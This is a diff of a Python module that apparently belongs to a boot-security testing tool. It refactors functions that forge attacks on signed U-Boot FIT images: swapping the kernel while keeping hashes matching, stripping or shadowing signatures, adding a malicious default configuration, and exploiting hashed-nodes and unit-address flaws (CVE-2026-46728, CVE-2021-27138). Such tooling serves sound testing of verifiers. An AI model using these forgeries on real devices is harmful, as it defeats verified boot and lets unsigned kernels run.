@@ -8,11 +8,12 @@ is always the payload that the attacker wants to run.
 
 from __future__ import annotations
 
+import functools
 import hashlib
 import struct
 from collections.abc import Callable, Iterable, Mapping
 from copy import deepcopy
-from typing import Final
+from typing import Concatenate, Final, ParamSpec
 
 from bootseal.boot.attacks import forge
 from bootseal.errors import FormatError, UsageError
@@ -36,6 +37,19 @@ _EVIL: Final = "kernel-evil"
 _EVIL_CONFIGURATION: Final = "conf-evil"
 # Where nothing else is loaded to.
 _EVIL_LOAD: Final = 0x60000000
+_P = ParamSpec("_P")
+
+
+def _of_a_fit(
+    change: Callable[Concatenate[Node, _P], None],
+) -> Callable[Concatenate[bytes, _P], bytes]:
+    """Make a change of a tree an attack on a FIT, of which all else stays byte for byte."""
+
+    @functools.wraps(change)
+    def attack(fit: bytes, /, *args: _P.args, **kwargs: _P.kwargs) -> bytes:
+        return fdt.rewrite(fit, lambda root: change(root, *args, **kwargs))
+
+    return attack
 
 
 def configurations(fit: bytes) -> list[str]:
@@ -90,20 +104,17 @@ def referenced(fit: bytes, configuration: str, name: str) -> str:
     return value.split(b"\0")[0].decode(errors="replace")
 
 
-def replace_payload(fit: bytes, image: str, payload: bytes, **properties: str) -> bytes:
+@_of_a_fit
+def replace_payload(root: Node, /, image: str, payload: bytes, **properties: str) -> None:
     """Put another payload into an image, with hashes that match.
 
     Args:
-        fit: The FIT.
+        root: The FIT.
         image: Name of the image node.
         payload: New data, as stored.
         properties: String properties to set on the node, for example `compression="none"`.
     """
-
-    def change(root: Node) -> None:
-        _fill(_find(root, f"/images/{image}"), payload, properties)
-
-    return fdt.rewrite(fit, change)
+    _fill(_find(root, f"/images/{image}"), payload, properties)
 
 
 def replace_kernel(fit: bytes, kernel: bytes) -> bytes:
@@ -117,84 +128,69 @@ def replace_and_strip(fit: bytes, kernel: bytes) -> bytes:
     return strip_signatures(replace_kernel(fit, kernel))
 
 
-def strip_signatures(fit: bytes) -> bytes:
+@_of_a_fit
+def strip_signatures(root: Node) -> None:
     """Remove every signature node."""
-
-    def change(root: Node) -> None:
-        for configuration in _find(root, "/configurations").children:
-            configuration.children = list(_without(configuration.children, "signature"))
-
-    return fdt.rewrite(fit, change)
+    for configuration in _find(root, "/configurations").children:
+        configuration.children = list(_without(configuration.children, "signature"))
 
 
-def shadow_configurations(fit: bytes, kernel: bytes) -> bytes:
+@_of_a_fit
+def shadow_configurations(root: Node, kernel: bytes) -> None:
     """Put an attacker's configuration of the same name in front of each genuine one.
 
     Each names an added kernel and has the genuine signature node copied into it. The genuine
     configurations and their images are still there, unchanged.
     """
-
-    def change(root: Node) -> None:
-        genuine = _find(root, "/configurations").children
-        _add_kernel(root, genuine[0], kernel)
-        genuine[:0] = [_naming_it(node, node.name) for node in genuine]
-
-    return fdt.rewrite(fit, change)
+    genuine = _find(root, "/configurations").children
+    _add_kernel(root, genuine[0], kernel)
+    genuine[:0] = [_naming_it(node, node.name) for node in genuine]
 
 
-def add_configuration(fit: bytes, kernel: bytes) -> bytes:
+@_of_a_fit
+def add_configuration(root: Node, kernel: bytes) -> None:
     """Add a copy of the first configuration that names the attacker's kernel, as the default."""
-
-    def change(root: Node) -> None:
-        configurations = _find(root, "/configurations")
-        genuine = configurations.children[0]
-        _add_kernel(root, genuine, kernel)
-        configurations.children.append(_naming_it(genuine, _EVIL_CONFIGURATION))
-        configurations.properties["default"] = _EVIL_CONFIGURATION.encode() + b"\0"
-
-    return fdt.rewrite(fit, change)
+    configurations = _find(root, "/configurations")
+    genuine = configurations.children[0]
+    _add_kernel(root, genuine, kernel)
+    configurations.children.append(_naming_it(genuine, _EVIL_CONFIGURATION))
+    configurations.properties["default"] = _EVIL_CONFIGURATION.encode() + b"\0"
 
 
-def clone_images(fit: bytes, kernel: bytes) -> bytes:
+@_of_a_fit
+def clone_images(root: Node, kernel: bytes) -> None:
     """Let the signature cover copies of the images while the images themselves are replaced.
 
     The signed image nodes are cloned, without data, into a new node below `/images`; the real
     kernel is replaced; `hashed-nodes`, which is not signed, names the clones. A verifier that
     trusts `hashed-nodes` hashes the same bytes as before and accepts (CVE-2026-46728).
     """
-
-    def change(root: Node) -> None:
-        images, configurations = _find(root, "/images"), _find(root, "/configurations")
-        clones = [_without_data(image) for image in images.children]
-        kernels = {_kernel_of(root, conf).name for conf in configurations.children}
-        for image in images.children:
-            if image.name in kernels:
-                _fill(image, kernel, {"compression": "none"})
-        # The empty last node keeps the end tag of the new parent out of the signed bytes.
-        images.children.append(Node(_CLONES, {}, [*clones, Node("zz", {}, [])]))
-        for configuration in configurations.children:
-            for node in configuration.children:
-                if (old := node.properties.get("hashed-nodes")) is not None:
-                    new = f"/images/{_CLONES}/".encode()
-                    node.properties["hashed-nodes"] = old.replace(b"/images/", new)
-
-    return fdt.rewrite(fit, change)
+    images, configurations = _find(root, "/images"), _find(root, "/configurations")
+    clones = [_without_data(image) for image in images.children]
+    kernels = {_kernel_of(root, conf).name for conf in configurations.children}
+    for image in images.children:
+        if image.name in kernels:
+            _fill(image, kernel, {"compression": "none"})
+    # The empty last node keeps the end tag of the new parent out of the signed bytes.
+    images.children.append(Node(_CLONES, {}, [*clones, Node("zz", {}, [])]))
+    for configuration in configurations.children:
+        for node in configuration.children:
+            if (old := node.properties.get("hashed-nodes")) is not None:
+                new = f"/images/{_CLONES}/".encode()
+                node.properties["hashed-nodes"] = old.replace(b"/images/", new)
 
 
-def add_unit_address(fit: bytes, kernel: bytes) -> bytes:
+@_of_a_fit
+def add_unit_address(root: Node, kernel: bytes) -> None:
     """Put `<kernel>@1` with another payload in front of the first configuration's kernel.
 
     libfdt finds it when asked for the name without the unit address (CVE-2021-27138).
     """
-
-    def change(root: Node) -> None:
-        genuine = _kernel_of(root, _find(root, "/configurations").children[0])
-        evil = deepcopy(genuine)
-        evil.name = f"{genuine.name}@1"
-        _fill(evil, kernel, {"compression": "none"})
-        _find(root, "/images").children.insert(0, evil)
-
-    return fdt.rewrite(fit, change)
+    genuine = _kernel_of(root, _find(root, "/configurations").children[0])
+    evil = deepcopy(genuine)
+    evil.name = f"{genuine.name}@1"
+    _fill(evil, kernel, {"compression": "none"})
+    _find(root, "/images").children.insert(0, evil)
 
 
 def add_data(fit: bytes, kernel: bytes) -> bytes:
@@ -213,13 +209,10 @@ def add_data(fit: bytes, kernel: bytes) -> bytes:
     return fdt.assemble(bytes(16), structure, strings)
 
 
-def set_number(fit: bytes, path: str, name: str, value: int) -> bytes:
+@_of_a_fit
+def set_number(root: Node, path: str, name: str, value: int) -> None:
     """Set a property to one big-endian 32-bit number."""
-
-    def change(root: Node) -> None:
-        _find(root, path).properties[name] = _U32.pack(value)
-
-    return fdt.rewrite(fit, change)
+    _find(root, path).properties[name] = _U32.pack(value)
 
 
 def set_version(fit: bytes, version: int) -> bytes:
@@ -232,13 +225,10 @@ def set_size(fit: bytes, size: int) -> bytes:
     return fit[:_SIZE_OFFSET] + _U32.pack(size) + fit[_SIZE_OFFSET + _U32.size :]
 
 
-def set_text(fit: bytes, path: str, name: str, text: str) -> bytes:
+@_of_a_fit
+def set_text(root: Node, path: str, name: str, text: str) -> None:
     """Set a property to a string, whatever is in it."""
-
-    def change(root: Node) -> None:
-        _find(root, path).properties[name] = text.encode() + b"\0"
-
-    return fdt.rewrite(fit, change)
+    _find(root, path).properties[name] = text.encode() + b"\0"
 
 
 def spoof_console(fit: bytes) -> bytes:
